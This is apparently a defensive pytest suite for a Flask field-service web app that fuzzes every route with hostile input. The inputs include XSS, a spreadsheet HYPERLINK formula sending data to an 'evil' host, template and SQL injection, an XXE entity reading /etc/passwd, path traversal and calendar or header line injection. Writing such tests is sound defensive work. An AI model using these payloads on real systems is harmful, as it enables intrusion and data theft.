"""P29–P33: whatever is sent, the answer is a page or a refusal, never an error of ours, and nothing of it runs."""

import json
import re
from collections import Counter
from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from fieldsvc.domain.booking.models import BookingDraft
from fieldsvc.domain.clients.models import Client, Contact, Site
from fieldsvc.domain.interventions.models import Intervention
from tests.web.inline import inline
from tests.web.routes import address, ask, routes
from tests.web.world import Web

SCRIPT = "<script>alert(1)</script>"
CODE = " ".join(
    [
        SCRIPT,
        '"><img src=x onerror=alert(1)>',
        '=HYPERLINK("http://evil/?"&A1)',
        "{{ config.SECRET_KEY }}{% for x in range(10**9) %}a{% endfor %}",
        "%(name)1000000000d {0.__class__} %s",
        "'; DROP TABLE contact; --",
    ]
)
TEXTS = {
    "code": CODE,
    "signs": "Straße 1, \r\nBcc: x@evil.example invoice\u202egpj.exe z" + "\u0301" * 500 + "👩‍👩‍👧‍👦" * 50,
    "long": "x" * 10_000,
    "number": "9" * 400,
    "not a number": "NaN",
    "negative": "-1",
    "arabic": "١٢٣",
    "json": '{"$ne": ""}',
    "blank": " \t\u00a0",
}
# What one database may keep and another refuse: characters outside the plane, and what is too great for a number.
DECIDED = {"signs", "number"}
NUL = "a\x00b"

# Every field of every form, so that each text reaches each of them.
FIELDS = re.findall(
    r"[\w-]+",
    "identifier code next back locale theme activity_type site address postcode city access_notes notes window reason "
    "q_nps q_comment email password version technician day begins ends outcome comment client_id site_id contact_id "
    "activity_type_id due_on priority candidate locked then draft step name reference kind category is_active "
    "custom-name custom-value phone channel role site_ids latitude longitude access client all confirmed change unit",
)


def outcomes(web: Web, text: str) -> Iterator[tuple[str, TestResponse]]:
    """The answers of every route to `text` in every field and every parameter."""
    browsers: dict[str, FlaskClient] = {
        who: web.browser(who) for who in ("ana", "dispatcher", "technician", "administrator")
    }
    owners = {"portal": "ana", "dispatch": "dispatcher", "field": "technician", "admin": "administrator"}
    query = dict.fromkeys(("q", "filter", "page", "from", "window", "day", "since", "sort", "period", "client"), text)
    for route in routes(web.app):
        browser = browsers[owners.get(route.endpoint.partition(".")[0], "ana")]
        path = address(web, route, web.belongings["ana"])
        if route.method == "GET":
            yield path, browser.get(path, query_string={**query, "draft": text, "step": text}, buffered=True)
        elif not route.endpoint.endswith("sign_out"):
            yield path, browser.post(path, data=dict.fromkeys(FIELDS, text), query_string={"next": text})
            yield path, browser.post(path, json=dict.fromkeys(FIELDS, text))


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=pytest.mark.both_engines if name in DECIDED else ()) for name in TEXTS]
)
def test_no_text_in_any_field_is_an_error_of_ours(web: Web, name: str) -> None:
    seen: Counter[int] = Counter()
    for path, answer in outcomes(web, TEXTS[name]):
        assert answer.status_code < 500, (path, answer.text)
        if answer.mimetype == "text/html":
            assert inline(answer.text) == [], path
        seen[answer.status_code] += 1
    assert seen.total() > 80


def test_no_name_in_an_address_is_an_error_of_ours(web: Web) -> None:
    names = ("endpoint", "form_id", "as", "self", "kwargs", "_anchor", "_external", "_method", "_scheme")
    browsers = {"portal": web.browser("ana"), "field": web.browser("technician")}
    administrator = web.browser("administrator")
    for route in routes(web.app):
        if route.method == "GET":
            browser = browsers.get(route.endpoint.partition(".")[0], administrator)
            path = address(web, route, web.belongings["ana"])
            answer = browser.get(path, query_string=dict.fromkeys(names, "javascript"), buffered=True)
            assert answer.status_code < 500, path


@pytest.mark.both_engines
def test_text_that_no_database_keeps_is_refused_at_every_door(web: Web) -> None:
    browser = web.browser("dispatcher")
    before = web.digest()
    visit = f"/dispatch/visits/{web.belongings['ana'].intervention}/move"
    posted = [
        browser.post("/portal/alfa/sign-in", data={"identifier": NUL}),
        browser.post("/portal/alfa/sign-in", data={NUL: "x"}),
        browser.get("/dispatch/interventions", query_string={"q": NUL}),
        browser.get("/feeds/a%00b.ics"),
        browser.post(visit, json={"reason": NUL}),
        browser.post(visit, json={"reason": ["x", {"y": NUL}]}),
        browser.post(visit, data='{"reason": "\\ud800"}', content_type="application/json"),
        browser.post(visit, data='{"\\udfff": 1}', content_type="application/json"),
    ]
    assert [answer.status_code for answer in posted] == [400] * len(posted)
    assert web.digest() == before


@pytest.mark.parametrize(
    "body",
    [
        "",
        "{",
        "null",
        "[]",
        '"text"',
        "1e999",
        "[" * 100_000,
        '{"a":' * 50_000,
        '{"version": 1e308, "technician": 1e308}',
        '{"version": 9999999999999999999999, "technician": 99999999999999999999, "day": "2027-01-04", "begins": 600}',
        '{"version": true, "technician": "1", "day": 20270104, "begins": "10:00"}',
        '{"version": 1, "technician": 1, "day": "2027-02-30", "begins": 600}',
        '{"version": 1, "technician": 1, "day": "9999-12-31", "begins": 600}',
        '{"version": 1, "technician": 1, "day": "2027-01-04", "begins": -1}',
        '{"version": 1, "technician": 1, "day": "2027-01-04", "begins": 1440}',
        '{"version": ' + "9" * 5000 + "}",
        "\ufeff{}",
    ],
    ids=range(17),
)
def test_no_json_is_an_error_of_ours(web: Web, body: str) -> None:
    browser = web.browser("dispatcher")
    for action in ("check", "move", "lock", "unschedule"):
        path = f"/dispatch/visits/{web.belongings['ana'].intervention}/{action}"
        answer = browser.post(path, data=body, content_type="application/json")
        assert 400 <= answer.status_code < 500, (action, answer.text)
        assert answer.mimetype == "application/json"


WINDOWS = [
    "2027-03-28T01:30/2027-03-28T03:30",
    "2027-10-31T02:30:00+02:00/2027-10-31T02:30:00+01:00",
    "2027-10-03T02:15Z/2027-10-03T04:15Z",
    "1970-01-01T00:00Z/9999-12-31T23:59Z",
    "0001-01-01T00:00:00+14:00/0001-01-01T02:00:00+14:00",
    "9999-12-31T22:00:00-14:00/9999-12-31T23:00:00-14:00",
    "2027-01-04T12:00Z/2027-01-04T10:00Z",
    "2027-01-04T10:00Z",
    "a/b",
    "/",
]


@pytest.mark.both_engines
def test_no_window_of_time_is_an_error_of_ours(web: Web) -> None:
    browser = web.browser("sofia")
    draft = f"/portal/alfa/book/{web.belongings['sofia'].draft}"
    for window in WINDOWS:
        for answer in (
            browser.post(f"{draft}/hold", data={"window": window}),
            browser.get(f"{draft}/when", query_string={"lost": 1, "window": window}),
            browser.get(f"{draft}/when", query_string={"from": window.partition("T")[0]}),
        ):
            assert answer.status_code in {200, 303, 400}, (window, answer.text)
    assert web.count(Intervention, Intervention.status == "held") == 0


MULTIPART = "multipart/form-data; boundary=x"


def multipart(form: dict[str, str]) -> bytes:
    parts = (f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{form[name]}\r\n' for name in form)
    return ("".join(parts) + "--x--\r\n").encode()


def test_forms_beyond_any_pages_are_refused(web: Web) -> None:
    browser, path = web.browser(), "/portal/alfa/sign-in"
    many = {f"field{number}": "x" for number in range(1001)}
    too_large = [
        browser.post(path, data=many),
        browser.post(path, data=multipart(many), content_type=MULTIPART),
        browser.post(path, data={"identifier": "x" * 600_000}),
        browser.post(path, data=multipart({"identifier": "x" * 600_000}), content_type=MULTIPART),
        browser.post(path, data="x" * 2_000_001, content_type="application/json"),
    ]
    assert [answer.status_code for answer in too_large] == [413] * len(too_large)
    assert browser.post(path, data=dict(list(many.items())[:400])).status_code == 422, "the control"
    assert browser.post(path, data={"identifier": "x" * 100_000}).status_code == 422
    assert browser.post(path, data=multipart({"identifier": "x"}), content_type=MULTIPART).status_code == 422


@pytest.mark.parametrize(
    "kind", ["application/xml", "text/plain", "multipart/form-data", "multipart/form-data; boundary=", "x", ""]
)
def test_a_body_of_another_kind_is_not_read(web: Web, kind: str) -> None:
    body = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>\xff\xfe'
    for path in ("/portal/alfa/sign-in", "/staff/sign-in"):
        answer = web.browser().post(path, data=body, content_type=kind)
        assert answer.status_code in {400, 413, 415, 422}
        assert "root:" not in answer.text


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static//etc/passwd",
        "/static/css/",
        "/portal/..%2f..%2fetc/",
        "/portal/%C3%28/",
        "/portal/" + "x" * 10_000 + "/",
        "/questionnaire/%00",
        "/questionnaire/" + "x" * 10_000,
        "/feeds/.ics",
        "/feeds/..%2f..%2fx.ics",
        "//evil.test/%2e%2e",
    ],
)
def test_no_trick_with_a_path_finds_anything(web: Web, path: str) -> None:
    answer = web.browser().get(path, buffered=True)
    assert answer.status_code in {308, 400, 404}
    assert "import" not in answer.text


def test_what_people_typed_is_shown_and_does_not_run(web: Web) -> None:
    """Names, addresses and answers go onto the pages of everybody else."""
    texts = TEXTS["code"] + TEXTS["signs"]
    with web.factory.begin() as session:
        for who, belongings in web.belongings.items():
            contact = session.get_one(Contact, web.people[who].id)
            contact.name = session.get_one(Client, contact.client_id).name = texts
            session.get_one(BookingDraft, belongings.draft).notes = texts
            for number in (belongings.intervention, belongings.done):
                intervention = session.get_one(Intervention, number)
                intervention.notes = intervention.outcome_comment = intervention.cancel_reason = texts
                site = session.get_one(Site, intervention.site_id)
                site.address = site.city = site.access_notes = texts
    shown = 0
    for who in ("ana", "dispatcher", "technician"):
        browser = web.browser(who)
        for route in routes(web.app):
            if route.method != "GET":
                continue
            answer = ask(browser, route, address(web, route, web.belongings["ana"]))
            assert answer.status_code < 500, route
            if answer.mimetype != "text/html":
                continue
            assert inline(answer.text) == [], route
            assert SCRIPT not in answer.text, route
            shown += "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text
            for data in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', answer.text, re.DOTALL):
                assert "<" not in data, route
                json.loads(data)
    assert shown > 8


def test_a_calendar_cannot_be_given_other_lines(fresh_web: Web) -> None:
    web = fresh_web
    address_ = "Street 1\r\nATTENDEE:mailto:x@evil.example\r\nSUMMARY:Another"
    with web.factory.begin() as session:
        visit = session.get_one(Intervention, web.belongings["sofia"].intervention)
        session.get_one(Site, visit.site_id).address = address_
    browser = web.browser("sofia")
    for text in (
        browser.get(f"/portal/alfa/visits/{web.belongings['sofia'].intervention}/calendar.ics").text,
        browser.get(f"/feeds/{web.belongings['sofia'].feed}.ics").text,
    ):
        lines = text.splitlines()
        assert any(line.startswith("BEGIN:VEVENT") for line in lines)
        assert not any(line.startswith(("ATTENDEE", "SUMMARY:Another")) for line in lines)
